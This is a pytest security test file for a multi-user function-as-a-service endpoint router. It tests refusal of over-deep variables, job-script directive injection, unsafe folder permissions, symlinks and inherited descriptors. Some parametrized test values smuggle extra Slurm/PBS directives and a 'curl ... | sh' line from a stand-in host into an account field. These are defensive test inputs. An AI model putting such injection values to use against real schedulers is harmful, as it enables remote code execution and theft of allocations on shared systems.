"""The router's bounds on what users write, without accounts (the attacks with real accounts are
tests/security/test_mep_attacks.py): the nesting and size of a user's variables, what they may
put into a job script, one message that raises anything, a user endpoint's status file, and the
folders above the store."""
from __future__ import annotations

import json
import os
from pathlib import Path
from types import SimpleNamespace

import pytest

from faas.endpoint import config as ep_config
from faas.endpoint.multiuser import files, spool, templates
from faas.endpoint.multiuser.router import Router
from faas.endpoint.multiuser.user_endpoints import UserEndpoint
from faas.exceptions import ConfigError
from faas.providers import make_provider
from faas.providers.pbs import PBSProvider


def nested(depth: int) -> dict:
    return json.loads('{"x": ' + "[" * depth + "]" * depth + "}")


def test_variables_nested_too_deep_or_too_big_are_refused_naming_the_limit():
    with pytest.raises(templates.VariablesRefused, match="nested deeper than 16 levels"):
        templates.check_variables(nested(600), None)
    with pytest.raises(templates.VariablesRefused, match="over the endpoint's limit of 65536 bytes"):
        templates.check_variables({"x": "a" * 70_000}, None)
    assert templates.check_variables(nested(14), None) == nested(14)


#: an admin's template that hands the user's account to the scheduler, under a schema that types
#: it as a plain string (no pattern, no enum): the schema lets anything through
ACCOUNT_TEMPLATE = "engine:\n  provider:\n    type: {provider}\n    account: {{{{ account }}}}\n"
PLAIN_STRING_SCHEMA = {"type": "object", "properties": {"account": {"type": "string", "maxLength": 200}},
                       "additionalProperties": False}


def job_script_for(variables: object, provider: str, tmp_path: Path) -> str:
    """What root submits for one task's user_endpoint_config: the router's check against the
    schema and its render (Router._render) of the user endpoint's config, as that endpoint's
    loader reads it, then the job script of its first block."""
    router = SimpleNamespace(name="campus", template=ACCOUNT_TEMPLATE.format(provider=provider), dir=tmp_path,
                             cfg=SimpleNamespace(store="file:///shared/faas", max_blocks_per_user=1,
                                                 allowed_functions=None))
    ue = UserEndpoint(key="mallory/1", name="ep", user="nobody", uid=65534, gid=65534, home="/nonexistent",
                      variables=templates.check_variables(variables, PLAIN_STRING_SCHEMA), vhash="1",
                      identity="local:nobody")
    cfg = ep_config.UserEndpointConfig.model_validate(Router._render(router, ue))
    p = make_provider(cfg.engine.provider, tmp_path / "ep")
    extra = p.template_vars("b1") if isinstance(p, PBSProvider) else {"mem": None, "workdir": str(tmp_path)}
    return p.script("python -m faas.endpoint.pool", "b1", **extra).read_text()


@pytest.mark.parametrize("provider, directive", [("slurm", "#SBATCH --account="), ("pbs", "#PBS -A ")])
@pytest.mark.parametrize("account", [
    "proj1\n#SBATCH --account=big-allocation\n#SBATCH --qos=admin\ncurl -s http://x.example | sh #",
    "proj1\r\n#PBS -A big-allocation\n#PBS -q admin",
    "proj1 --qos=admin -q admin -A big-allocation",
])
def test_a_users_variable_never_adds_a_line_or_an_option_to_the_job_script(tmp_path, provider, directive,
                                                                          account):
    """Mallory sends user_endpoint_config {"account": ...} to a multi-user endpoint whose schema
    types account as a plain string. The value used to reach the job script as it was: its lines
    became directives of hers (another account, a QOS) and shell commands run in her job, and
    its words more options of the account's directive. Now the rendered config is refused,
    naming the key and what it holds, and the task with it; an honest account renders as one
    directive."""
    with pytest.raises(templates.VariablesRefused) as refused:
        script = job_script_for({"account": account}, provider, tmp_path)
        # only the old code got here: the script root would have submitted as the user
        assert [line for line in script.splitlines() if "account" in line or " -A " in line] == [
            f"{directive}proj1"], script
    assert "engine.provider.account: expected one word with no spaces, quotes, backslashes or control " \
           "characters" in str(refused.value)
    assert "found a " in str(refused.value) and "at character 6" in str(refused.value)
    script = job_script_for({"account": "proj1"}, provider, tmp_path)
    assert [line for line in script.splitlines() if "proj1" in line] == [f"{directive}proj1"]


def test_the_default_schema_refuses_a_line_break_after_a_value():
    """Python's re.search, which jsonschema checks ``pattern`` with, matches ``$`` before a final
    line break: the default schema's patterns end in ``\\Z``, the end of the value itself."""
    schema = json.loads(files._default(files.SCHEMA))
    assert templates.check_variables({"account": "proj1", "partition": "cpu", "walltime": "1-02:00:00"}, schema)
    for key, value in (("account", "proj1"), ("partition", "cpu"), ("walltime", "01:00:00")):
        with pytest.raises(templates.VariablesRefused, match=f"user_endpoint_config: {key}: .* does not match"):
            templates.check_variables({key: value + "\n"}, schema)


def test_a_render_that_recurses_too_deep_is_a_config_error():
    deep: list = []
    for _ in range(5000):
        deep = [deep]
    with pytest.raises(ConfigError, match="RecursionError"):
        templates.render("a: {{ x }}", {"x": deep}, {})


class _Incoming:
    label, identity, problem = "t1", "local:bob", None

    def __init__(self):
        self.done: list[str] = []

    def aside(self, why: str) -> None:
        self.done.append(f"aside: {why}")

    def ack(self) -> None:
        self.done.append("ack")


def test_any_exception_while_handling_one_message_sets_it_aside():
    lines: list[dict] = []

    class Stub:
        _take, _set_aside = Router._take, Router._set_aside
        audit = SimpleNamespace(write=lambda **kw: lines.append(kw))

        def _route(self, e, batches):
            raise RecursionError("maximum recursion depth exceeded")
    e = _Incoming()
    Stub()._take(e, {})
    assert e.done == [e.done[0]] and "RecursionError" in e.done[0] and "set aside" in e.done[0]
    assert lines[0]["outcome"] == "refused" and "RecursionError" in lines[0]["reason"]


def _router_stub(max_blocks: int = 2) -> SimpleNamespace:
    stub = SimpleNamespace(cfg=SimpleNamespace(max_blocks_per_user=max_blocks), block_warned=set(),
                           nodes_per_block={}, renders=[])
    stub._reported_blocks = lambda ue: Router._reported_blocks(stub, ue)
    stub._nodes = lambda ue: Router._nodes(stub, ue)
    stub._render = lambda ue: stub.renders.append(ue.key) or {"engine": {"provider": {"nodes_per_block": 3}}}
    stub.blocks_log = SimpleNamespace(lines=[])
    stub.blocks_log.write = lambda **kw: stub.blocks_log.lines.append(kw)
    stub._block_ended = lambda ue, bid, b, now: Router._block_ended(stub, ue, bid, b, now)
    return stub


def _user_endpoint(home: Path, blocks: object) -> UserEndpoint:
    ue = UserEndpoint(key="bob/1", name="ep", user="bob", uid=1, gid=1, home=str(home), variables={},
                      vhash="1", state="running", started_at=0.0)
    ue.dir.mkdir(parents=True)
    (ue.dir / "daemon.status.json").write_text(json.dumps({"blocks": blocks}))
    return ue


def test_a_status_file_is_bounded_typed_and_the_users_word(tmp_path):
    stub = _router_stub(max_blocks=2)
    ue = _user_endpoint(tmp_path, {"b1": "x", "b" * 100: {}, **{f"n{i}": {"submitted": 0} for i in range(3000)}})
    assert Router._account_blocks(stub, ue, 1000.0) == 2
    assert set(ue.blocks) == {"n0", "n1"} and stub.renders == ["bob/1"]   # rendered once, not per block
    (ue.dir / "daemon.status.json").write_text(json.dumps({"blocks": {"m": {"submitted": 1e308}}}))
    assert Router._account_blocks(stub, ue, 1010.0) == 1
    ended = stub.blocks_log.lines
    assert len(ended) == 2 and all(x["node_seconds"] == 30.0 for x in ended)   # 10 s seen x 3 nodes
    assert ended[0]["reported_by_user"] == {"block": "n0", "submitted": 0.0, "file": "daemon.status.json"}
    (ue.dir / "daemon.status.json").write_text('["not", "an", "object"]')
    assert Router._account_blocks(stub, ue, 1020.0) == 1   # unreadable: the blocks known stay


def test_the_folders_above_the_store_must_be_roots_alone(tmp_path):
    loose = tmp_path / "loose"
    loose.mkdir()
    os.chmod(loose, 0o777)
    fd = os.open(loose, os.O_RDONLY | os.O_DIRECTORY)
    try:
        with pytest.raises(ConfigError, match=r"writable by group and others \(mode 777\) without the sticky bit"):
            spool.check_parent(fd, loose)
        os.chmod(loose, 0o1777)
        spool.check_parent(fd, loose)   # sticky, like /tmp: nobody renames another's entry
    finally:
        os.close(fd)


@pytest.mark.skipif(os.geteuid() != 0, reason="gives a folder to another uid (needs root)")
def test_a_link_on_the_store_path_in_a_users_folder_is_refused(tmp_path):
    """The store configured as /…/bobs/link/store, ``link`` pointing at a safe folder: bob may
    aim the link elsewhere later, and clients (and the store's own code) follow that path."""
    safe = tmp_path / "safe"
    safe.mkdir()
    bobs = tmp_path / "bobs"
    bobs.mkdir()
    (bobs / "link").symlink_to(safe)
    os.chown(bobs, 54321, 54321)
    with pytest.raises(ConfigError, match=f"{bobs}: .* owned by uid 54321"):
        spool.open_prepared((bobs / "link" / "store").as_uri(), "ep")
    assert not (safe / "store").exists()
    os.close(spool.open_prepared((safe / "store").as_uri(), "ep"))
    assert oct((safe / "store" / "spool" / "ep").stat().st_mode & 0o7777) == "0o1733"


@pytest.mark.skipif(os.geteuid() != 0, reason="files of other owners need root")
def test_one_writers_pile_never_keeps_anothers_message_out_of_a_scan(tmp_path):
    """600 old messages of one writer (tasks over a limit wait in the spool) and one newer of
    another: a scan of 500 took the 500 oldest, all the first writer's, on every step; now
    writers take turns, oldest first within each."""
    body = b'{"v": 1}'
    for i in range(600):
        p = tmp_path / f"bob-{i}.json"
        p.write_bytes(body)
        os.chmod(p, 0o600)
        os.chown(p, 50001, 50001)
        os.utime(p, (1000 + i, 1000 + i))
    p = tmp_path / "alice.json"
    p.write_bytes(body)
    os.chmod(p, 0o600)
    os.chown(p, 50002, 50002)
    got = spool.scan(tmp_path, limit=500)
    assert len(got) == 500 and any(e.uid == 50002 for e in got)
    assert [e.path for e in got if e.uid == 50001][:3] == [str(tmp_path / f"bob-{i}.json") for i in range(3)]


@pytest.mark.skipif(os.geteuid() != 0, reason="dropping to another account needs root")
def test_work_as_a_user_holds_none_of_roots_descriptors(tmp_path):
    """A child that runs as the user (a hand-over into the user's queue, a refusal into their
    reply queue) works on files the user controls: it must not hold root's open files (its
    audit log, its lock), which whatever those files make of the child could write to."""
    import pwd

    from faas.endpoint.multiuser.privileges import run_as
    secret = open(tmp_path / "roots-audit.log", "a")   # noqa: SIM115 - held open across the fork on purpose

    def look() -> None:
        fds = {int(n) for n in os.listdir("/proc/self/fd")}
        extra = fds - {0, 1, 2}
        if len(extra) > 2:   # its report pipe, and the listing's own descriptor
            raise OSError(f"inherited descriptors: {sorted(extra)}")
    nobody = pwd.getpwnam("nobody")
    try:
        assert run_as("nobody", nobody.pw_uid, nobody.pw_gid, look, timeout=30) == (True, "")
        from faas.endpoint.multiuser.privileges import AsUser
        child = AsUser("nobody", nobody.pw_uid, nobody.pw_gid, lambda: os.fstat(secret.fileno()), timeout=30)
        ok, why = child.poll(wait=30) or (None, "")
        assert not ok and "Bad file descriptor" in why
    finally:
        secret.close()


@pytest.mark.parametrize("name", ["identity_mapping.json", "user_config_template.yaml.j2",
                                  "user_config_schema.json", "user_environment.yaml"])
def test_files_that_decide_who_runs_as_whom_must_be_the_admins_alone(tmp_path, name):
    """A mapping, template, schema or environment file others could write would let them
    decide who runs as whom: refused, saying how to fix it (mapping.check_owner_safe, unused
    before)."""
    from faas.endpoint.multiuser import files, mapping
    path = tmp_path / name
    files.write_defaults(tmp_path)
    if not path.exists():
        path.write_text("{}" if name.endswith(".json") else "A: b\n")
    os.chmod(path, 0o666)
    readers = {"identity_mapping.json": lambda: mapping.load_rules(path),
               "user_config_template.yaml.j2": lambda: files.read_template(tmp_path),
               "user_config_schema.json": lambda: templates.load_schema(path),
               "user_environment.yaml": lambda: files.read_environment(tmp_path)}
    with pytest.raises(ConfigError, match="not writable by group or others.*chmod go-w"):
        readers[name]()
    os.chmod(path, 0o644)
    readers[name]()
